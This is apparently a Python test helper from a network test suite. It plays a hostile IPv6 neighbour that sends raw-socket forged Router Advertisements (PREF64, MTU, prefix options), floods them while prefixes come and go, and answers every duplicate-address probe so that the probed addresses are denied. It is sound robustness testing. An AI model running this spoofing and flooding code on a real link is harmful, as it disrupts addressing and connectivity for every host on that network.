# SPDX-License-Identifier: Apache-2.0 OR MIT
"""A neighbour on the uplink's link that means harm: it forges advertisements, and defends addresses that it does not have.

It stands in the router's namespace. Its packets are made here, from the formats of RFC 4861 and RFC 8781, because
hundreds of them a second are sent.
"""

from __future__ import annotations

import subprocess
import sys

from network import Network

# RFC 4861 sections 4.2, 4.6.2 and 4.6.4, RFC 8781 section 4.
FORGERY = """
import ipaddress, random, socket, struct, sys, time
address = lambda text: ipaddress.IPv6Address(text).packed
def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF
def frame(source, destination, body):
    pseudo = source + destination + struct.pack("!II", len(body), 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    header = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + source + destination
    return bytes.fromhex("333300000001" + "020000000066" + "86dd") + header + body
def pref64(prefix, lifetime):
    net = ipaddress.IPv6Network(prefix)
    code = [96, 64, 56, 48, 40, 32].index(net.prefixlen)
    return struct.pack("!BBH", 38, 2, lifetime & ~7 | code) + net.network_address.packed[:12]
def mtu(size):
    return struct.pack("!BBHI", 5, 1, 0, size)
def prefix_information(prefix, valid, preferred):
    net = ipaddress.IPv6Network(prefix)
    return struct.pack("!BBBBIII", 3, 4, net.prefixlen, 0xC0, valid, preferred, 0) + net.network_address.packed
def advertisement(source, *options):
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 0, 0, 0) + b"".join(options)
    return frame(address(source), address("ff02::1"), body)
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
link.bind(("down0", 0))
"""

# A better prefix comes and goes, each time another one, of another router; with it, another MTU and other lifetimes.
FLOOD = """
random.seed(1)
for number in range(int(sys.argv[1])):
    router, prefix = f"fe80::bad:{number:x}", f"2001:db8:bad:{number:x}::/96"
    size = mtu(random.choice([1280, 1400, 1500]))
    lifetimes = prefix_information("2001:2:0:1::/64", 7200 + number, 3600 + number)
    link.send(advertisement(router, pref64(prefix, 65528), size, lifetimes))
    time.sleep(0.007)
    link.send(advertisement(router, pref64(prefix, 0), size, lifetimes))
    time.sleep(0.007)
"""

# Says of so many addresses that are tried out that it has them.
DEFENCE = """
hears = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x86DD))
hears.bind(("down0", 0x86DD))
print("listening", flush=True)
defended = set()
while len(defended) < int(sys.argv[1]):
    packet = hears.recv(2048)
    # Neighbour Solicitations from the unspecified address (RFC 4862 section 5.4.2).
    if packet[20] == 58 and packet[54] == 135 and packet[22:38] == bytes(16):
        target = packet[62:78]
        body = b"\\x88\\0\\0\\0" + b"\\x20\\0\\0\\0" + target + b"\\x02\\x01" + bytes.fromhex("020000000066")
        link.send(frame(target, address("ff02::1"), body))
        defended.add(target)
"""

# One advertisement, whose options are the arguments, each an expression.
ONE = """
link.send(advertisement(sys.argv[1], *map(eval, sys.argv[2:])))
"""


def forge(net: Network, router: str, *options: str) -> None:
    """Send one advertisement."""
    net.run(net.router, sys.executable, "-c", FORGERY + ONE, router, *options)


def flood(net: Network, pairs: int) -> None:
    """Let so many prefixes come and go, 140 advertisements a second."""
    net.run(net.router, sys.executable, "-c", FORGERY + FLOOD, str(pairs))


def defend(net: Network, addresses: int) -> subprocess.Popen:
    """Start to defend so many addresses."""
    log = net.scratch / "defence.log"
    with log.open("w") as sink:
        command = (sys.executable, "-c", FORGERY + DEFENCE, str(addresses))
        process = net.start(net.router, *command, stdout=sink, stderr=sink)
    net.until(lambda: "listening" in log.read_text())
    return process
